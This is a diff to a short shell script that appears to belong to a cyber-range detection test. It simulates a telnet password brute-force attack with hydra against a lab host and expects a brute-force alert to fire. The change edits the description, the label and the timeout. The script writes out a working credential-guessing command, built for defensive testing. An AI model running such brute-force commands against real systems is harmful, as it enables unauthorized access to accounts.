@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-# what: passwords guessed at telnet, the last is right
+# what: passwords guessed at telnet
 # technique: T1110.001
 # from: ws1
 # to: lin1
@@ -8,4 +8,4 @@
 # must: alert brute
 . "$RANGE_HERE/item.sh"
 { passwords 10; echo "$UNIX_PASSWORD"; } >"$HOME/passwords"
-says "valid password" timeout 100 hydra -I -l op -P "$HOME/passwords" -t 8 -f telnet://$lin1
+says "attacking telnet" timeout 50 hydra -I -l op -P "$HOME/passwords" -t 8 -f telnet://$lin1
